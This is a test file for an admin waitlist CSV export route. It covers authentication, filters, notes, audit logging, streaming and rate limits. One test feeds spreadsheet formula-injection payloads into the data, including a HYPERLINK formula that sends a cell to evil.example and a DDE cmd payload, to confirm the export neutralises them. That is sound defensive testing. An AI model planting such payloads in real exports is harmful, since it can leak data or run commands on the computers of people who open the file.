import { parse } from "csv-parse/sync";

import { GET, HEAD } from "@/app/api/admin/waitlist/export/route";
import { EXPORT_BATCH_SIZE, WAITLIST_CSV_HEADER } from "@/lib/data/waitlist/export";
import { getDb, withSql } from "@/lib/db";
import { startTestSession } from "@/test/admin";
import { prepareTestDatabase, resetDatabase } from "@/test/db";
import { awayFromWindowEdge } from "@/test/rate-limit-window";
import { OWNERS_CSV_HEADER } from "@/test/waitlist-csv-header";
import { csvByHeader } from "@/test/waitlist-row";

prepareTestDatabase();

const BASE = "http://localhost/api/admin/waitlist/export";

async function adminCookie(): Promise<string> {
  const [admin] = await withSql((sql) =>
    sql.query<{ id: number }>(
      `INSERT INTO "admin_users" ("name", "email", "password") VALUES ('Ada', 'ada@example.com', 'x') RETURNING "id"`,
    ),
  );
  return (await startTestSession(admin!)).cookie;
}

const get = (query: string, cookie?: string) =>
  GET(new Request(`${BASE}${query}`, { headers: cookie ? { cookie } : {} }), undefined);

const parseCsv = (text: string) => parse(text, { bom: true }) as string[][];
/** The records of a CSV download, each by header name. */
const recordsOf = async (response: Response) => csvByHeader(parseCsv(await response.text()));
/** One field of each record of a download. */
const fieldOf = async (response: Response, name: string) => (await recordsOf(response)).map((record) => record[name]);
/** What a waiting entry that nothing has happened to has in the fields besides its name, address, type, size and time. */
const UNTOUCHED = {
  "Business description": "",
  Confirmed: "",
  Status: "waiting",
  Invited: "",
  Accepted: "",
  Source: "",
  Medium: "",
  Campaign: "",
  Referrer: "",
};

async function insert(
  rows: [name: string, email: string, businessType: string, employees: string, joinedAt: string][],
) {
  await withSql(async (sql) => {
    for (const row of rows) {
      await sql.query(
        `INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt") VALUES ($1, $2, $3, $4, $5)`,
        row,
      );
    }
  });
}

describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreSQL" : "embedded"})`, () => {
  let cookie: string;
  beforeEach(async () => {
    await resetDatabase();
    cookie = await adminCookie();
  });

  it("answers 401 without a session", async () => {
    const response = await get("");
    expect(response.status).toBe(401);
    expect(response.headers.get("content-type")).toMatch(/application\/json/);
  });

  it("answers 400 with a message for bad parameters, and exports only GET", async () => {
    const response = await get("?sort=random", cookie);
    expect(response.status).toBe(400);
    expect((await response.json()).message).toMatch(/sort must be one of/);
    expect(Object.keys(await import("@/app/api/admin/waitlist/export/route")).sort()).toEqual(["GET", "HEAD"]);
  });

  it("answers HEAD with what GET would do, without a body and without counting an export", async () => {
    const head = (query: string, withCookie?: string) =>
      HEAD(
        new Request(`${BASE}${query}`, { method: "HEAD", headers: withCookie ? { cookie: withCookie } : {} }),
        undefined,
      );
    expect((await head("")).status).toBe(401);
    expect((await head("?sort=random", cookie)).status).toBe(400);
    const ok = await head("?q=ann", cookie);
    expect(ok.status).toBe(204);
    expect(await ok.text()).toBe("");
    expect(await getDb().rateLimit.count()).toBe(0);
    expect(await getDb().auditLog.count({ where: { action: "waitlist.export" } })).toBe(0);
  });

  it("downloads an attachment named waitlist_entries.csv with just the header when the list is empty", async () => {
    const response = await get("", cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="waitlist_entries.csv"');
    expect(response.headers.get("cache-control")).toBe("no-store");
    const [header, ...records] = parseCsv(await response.text());
    expect(records).toEqual([]);
    // The descriptors' header (lib/data/waitlist/columns.ts), each name once, holding every name the team relies on.
    expect(header).toEqual(WAITLIST_CSV_HEADER);
    expect(new Set(header).size).toBe(header!.length);
    expect(header!.slice(0, OWNERS_CSV_HEADER.length)).toEqual(OWNERS_CSV_HEADER);
  });

  it("writes each entry's tags, and the team's notes only when asked (notes=yes), filtered by tag", async () => {
    await insert([
      ["Ann", "ann@example.com", "car", "1", "2026-01-01T10:00:00Z"],
      ["Bob", "bob@example.com", "car", "1", "2026-01-02T10:00:00Z"],
    ]);
    const [adminRow] = await withSql((sql) => sql.query<{ id: number }>(`SELECT "id" FROM "admin_users" LIMIT 1`));
    await withSql((sql) =>
      sql.exec(`INSERT INTO "waitlist_tags" ("entryId", "tag") SELECT "id", 'london' FROM "waitlist";
        INSERT INTO "waitlist_tags" ("entryId", "tag") SELECT "id", 'cleaners' FROM "waitlist" WHERE "name" = 'Ann';
        INSERT INTO "waitlist_notes" ("entryId", "authorId", "authorEmail", "body", "createdAt")
          SELECT "id", ${adminRow!.id}, 'ada@example.com', '=Called: keen', '2026-03-01T09:30:00Z' FROM "waitlist" WHERE "name" = 'Ann';
        INSERT INTO "waitlist_notes" ("entryId", "authorId", "authorEmail", "body", "createdAt")
          SELECT "id", ${adminRow!.id}, 'ada@example.com', 'Second', '2026-03-02T09:30:00Z' FROM "waitlist" WHERE "name" = 'Ann';`),
    );
    const plain = await recordsOf(await get("?sort=joined_asc", cookie));
    expect(plain.map((record) => [record.Name, record.Tags, record.Notes])).toEqual([
      ["Ann", "cleaners, london", undefined],
      ["Bob", "london", undefined],
    ]);
    const withNotes = await recordsOf(await get("?sort=joined_asc&notes=yes&tags-all=london,cleaners", cookie));
    expect(withNotes.map((record) => [record.Name, record.Notes])).toEqual([
      [
        "Ann",
        "ada@example.com (2026-03-01 09:30 UTC): =Called: keen\n\nada@example.com (2026-03-02 09:30 UTC): Second",
      ],
    ]);
    expect((await get("?notes=maybe", cookie)).status).toBe(400);
  });

  it("round-trips hostile values through a CSV parser, with formulas neutralised", async () => {
    const hostile: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
      ["+1", "'+1"],
      ["-2+3", "'-2+3"],
      ["@SUM(A1)", "'@SUM(A1)"],
      ["\tTab", "'\tTab"],
      ["\rReturn", "'\rReturn"],
      ['Quote "Q" Quinn', 'Quote "Q" Quinn'],
      ["Comma, Inc", "Comma, Inc"],
      ["Line one\nLine two", "Line one\nLine two"],
      ["Siobhán Ó Briain", "Siobhán Ó Briain"],
      ["李小龙", "李小龙"],
      ["Zoë 👩‍🔧", "Zoë 👩‍🔧"],
    ];
    await insert(
      hostile.map(([name], index) => [
        name,
        `person${index}@example.com`,
        "car",
        "1",
        `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00Z`,
      ]),
    );
    await insert([["Mallory", "=cmd|' /C calc'!A0@example.com", "therapy", "11+", "2024-12-01T00:00:00Z"]]);

    const records = await recordsOf(await get("?sort=joined_asc", cookie));
    // The line's and the referrals' columns are covered with the line (lib/data/waitlist/line.test.ts).
    expect(records[0]).toMatchObject({
      Name: "Mallory",
      Email: "'=cmd|' /C calc'!A0@example.com",
      "Business Type": "Therapy & counselling",
      "Team Size": "11+",
      Joined: "2024-12-01T00:00:00.000Z",
      ...UNTOUCHED,
    });
    expect(records.slice(1)).toEqual(
      hostile.map(([, expected], index) =>
        expect.objectContaining({
          Name: expected,
          Email: `person${index}@example.com`,
          "Business Type": "Car valeting & detailing",
          "Team Size": "Just me",
          Joined: `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00.000Z`,
          ...UNTOUCHED,
        }),
      ),
    );
  });

  it("exports only the matches of a search, in the chosen order", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
      ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
      ["Cat Smith", "cat@example.com", "beauty", "1", "2025-01-03T00:00:00Z"],
    ]);
    expect(await fieldOf(await get("?q=SMITH&sort=name_asc", cookie), "Name")).toEqual(["Ann Smith", "Cat Smith"]);
    expect(await fieldOf(await get("?q=smith", cookie), "Name")).toEqual(["Cat Smith", "Ann Smith"]);
    expect(await recordsOf(await get("?q=valeting", cookie))).toEqual([
      expect.objectContaining({
        Name: "Bob Jones",
        Email: "bob@example.com",
        "Business Type": "Car valeting & detailing",
        "Team Size": "6-10",
        Joined: "2025-01-02T00:00:00.000Z",
        ...UNTOUCHED,
      }),
    ]);
  });

  it("filters to confirmed or unconfirmed entries, and shows when each was confirmed", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
      ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
    ]);
    await withSql((sql) =>
      sql.exec(
        `UPDATE "waitlist" SET "confirmedAt" = timestamptz '2025-01-03 10:00:00+00' WHERE "email" = 'bob@example.com'`,
      ),
    );
    const all = await recordsOf(await get("?sort=name_asc", cookie));
    expect(all.map((record) => [record.Name, record.Confirmed])).toEqual([
      ["Ann Smith", ""],
      ["Bob Jones", "2025-01-03T10:00:00.000Z"],
    ]);
    expect(await fieldOf(await get("?confirmed=yes", cookie), "Name")).toEqual(["Bob Jones"]);
    expect(await fieldOf(await get("?confirmed=no&q=smith", cookie), "Name")).toEqual(["Ann Smith"]);
    expect((await get("?confirmed=maybe", cookie)).status).toBe(400);
  });

  it("has each entry's source in four columns, and filters by source", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
      ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
      ["Cat Smith", "cat@example.com", "beauty", "1", "2025-01-03T00:00:00Z"],
    ]);
    await withSql((sql) =>
      sql.exec(`UPDATE "waitlist" SET "utmSource" = 'newsletter', "utmMedium" = 'email', "utmCampaign" = 'Spring', "referrer" = 'news.example' WHERE "email" = 'ann@example.com';
                UPDATE "waitlist" SET "referrer" = 't.co' WHERE "email" = 'bob@example.com'`),
    );
    const all = await recordsOf(await get("?sort=name_asc", cookie));
    expect(all.map((record) => [record.Name, record.Source, record.Medium, record.Campaign, record.Referrer])).toEqual([
      ["Ann Smith", "newsletter", "email", "Spring", "news.example"],
      ["Bob Jones", "", "", "", "t.co"],
      ["Cat Smith", "", "", "", ""],
    ]);
    const names = async (query: string) => fieldOf(await get(query, cookie), "Name");
    expect(await names("?source=Newsletter")).toEqual(["Ann Smith"]);
    expect(await names("?source=t.co")).toEqual(["Bob Jones"]);
    expect(await names("?source=direct")).toEqual(["Cat Smith"]);
    expect(await names("?source=news.example")).toEqual([]);
  });

  it("has what a visitor who chose Other said their business is in the column after Business Type, formulas neutralised", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "other", "1", "2025-01-01T00:00:00Z"],
      ["Bob Jones", "bob@example.com", "other", "2-5", "2025-01-02T00:00:00Z"],
      ["Cat Smith", "cat@example.com", "cleaning", "1", "2025-01-03T00:00:00Z"],
    ]);
    await withSql((sql) =>
      sql.exec(`UPDATE "waitlist" SET "businessDescription" = 'Dog grooming, walking & "sitting"' WHERE "email" = 'ann@example.com';
                UPDATE "waitlist" SET "businessDescription" = '=1+2 photography' WHERE "email" = 'bob@example.com'`),
    );
    const all = await recordsOf(await get("?sort=name_asc", cookie));
    expect(
      all.map((record) => [record.Name, record["Business Type"], record["Business description"], record["Team Size"]]),
    ).toEqual([
      ["Ann Smith", "Other", 'Dog grooming, walking & "sitting"', "Just me"],
      ["Bob Jones", "Other", "'=1+2 photography", "2-5"],
      ["Cat Smith", "Cleaning", "", "Just me"],
    ]);
  });

  it("says when and why a signup was held for review, for held ones only, and filters by held", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
      ["Hal Held", "hal@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
    ]);
    await withSql((sql) =>
      sql.exec(
        `UPDATE "waitlist" SET "heldAt" = timestamptz '2025-01-02 00:00:00+00', "heldReason" = 'replayed' WHERE "email" = 'hal@example.com'`,
      ),
    );
    const all = await recordsOf(await get("?sort=name_asc", cookie));
    expect(all.map((record) => [record.Name, record.Held, record["Held reason"]])).toEqual([
      ["Ann Smith", "", ""],
      ["Hal Held", "2025-01-02T00:00:00.000Z", "replayed"],
    ]);
    const names = async (query: string) => fieldOf(await get(query, cookie), "Name");
    expect(await names("?held=yes")).toEqual(["Hal Held"]);
    expect(await names("?held=no")).toEqual(["Ann Smith"]);
    expect((await get("?held=maybe", cookie)).status).toBe(400);
  });

  it("records each export in the audit log once its download ends: filters, rows sent, finished or not", async () => {
    await insert([
      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
      ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
      ["Cat Smith", "cat@example.com", "beauty", "1", "2025-01-03T00:00:00Z"],
    ]);
    const exports = () =>
      getDb().auditLog.findMany({
        where: { action: "waitlist.export" },
        orderBy: { id: "asc" },
        select: { details: true },
      });
    await (await get("?q=smith&sort=name_asc", cookie)).text();
    await (await get("", cookie)).text();
    // The entry is written as the stream closes, just after the last byte reaches the reader.
    for (let tries = 0; (await exports()).length < 2 && tries < 100; tries++)
      await new Promise((resolve) => setTimeout(resolve, 20));
    expect((await exports()).map((row) => row.details)).toEqual([
      { filters: { q: "smith", sort: "name_asc" }, rows: 2, completed: true },
      { filters: { q: "", sort: "joined_desc" }, rows: 3, completed: true },
    ]);
    // A refused request (bad parameters) is no export and leaves no entry.
    expect((await get("?sort=sideways", cookie)).status).toBe(400);
    expect(await exports()).toHaveLength(2);
  });

  it("streams: the first rows arrive before the rest of the table has been read", async () => {
    const total = EXPORT_BATCH_SIZE * 3;
    await withSql((sql) =>
      sql.query(
        `INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt")
         SELECT 'Person ' || i, 'p' || i || '@example.com', 'trades', '2-5', timestamptz '2025-01-01 00:00:00+00' + i * interval '1 second'
         FROM generate_series(1, $1::int) AS i`,
        [total],
      ),
    );
    const response = await get("", cookie);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let firstText = "";
    while (firstText.split("\r\n").length - 1 < 2) {
      const { done, value } = await reader.read();
      if (done) break;
      firstText += decoder.decode(value, { stream: true });
    }
    // The header and the first rows, long before the whole table: the stream did not wait for it.
    expect(firstText.split("\r\n").length - 1).toBeLessThan(1 + total);

    // A row that sorts last (the oldest) added now.
    await insert([["Late Comer", "late@example.com", "other", "1", "2000-01-01T00:00:00Z"]]);
    let text = firstText;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      text += decoder.decode(value, { stream: true });
    }
    const records = csvByHeader(parseCsv(text));
    expect(records[0]!.Name).toBe(`Person ${total}`);
    expect(new Set(records.map((record) => record.Email)).size).toBe(records.length);
    if (process.env.DATABASE_URL) {
      // PostgreSQL's COPY writes one consistent snapshot of the table, taken when the export began.
      expect(records).toHaveLength(total);
    } else {
      // The embedded database is read in keyset batches as the client takes them: the tail is read later.
      expect(records).toHaveLength(total + 1);
      expect(records.at(-1)!.Name).toBe("Late Comer");
    }
  });

  it("limits how often one admin can export", async () => {
    // Twenty-one requests inside one ten-minute window: start well clear of its end.
    await awayFromWindowEdge(10 * 60 * 1000, 20_000);
    for (let index = 0; index < 20; index++) {
      const response = await get("", cookie);
      expect(response.status).toBe(200);
      await response.body?.cancel();
    }
    const refused = await get("", cookie);
    expect(refused.status).toBe(429);
    expect(refused.headers.get("retry-after")).toMatch(/^\d+$/);
    expect((await refused.json()).message).toMatch(/Too many exports/);
    // The page's HEAD check says the same, so the button can report it instead of downloading an error.
    const check = await HEAD(new Request(BASE, { method: "HEAD", headers: { cookie } }), undefined);
    expect(check.status).toBe(429);
  });
});
